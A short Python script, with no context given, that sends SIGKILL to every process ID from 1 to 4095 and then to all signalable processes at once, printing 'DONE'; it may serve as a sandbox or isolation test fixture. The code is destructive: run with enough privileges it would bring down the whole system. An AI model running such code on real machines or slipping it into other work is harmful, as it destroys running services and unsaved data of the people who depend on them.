"""Kills everything that it may."""

import os
import signal

for number in range(1, 4096):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
print("DONE", flush=True)
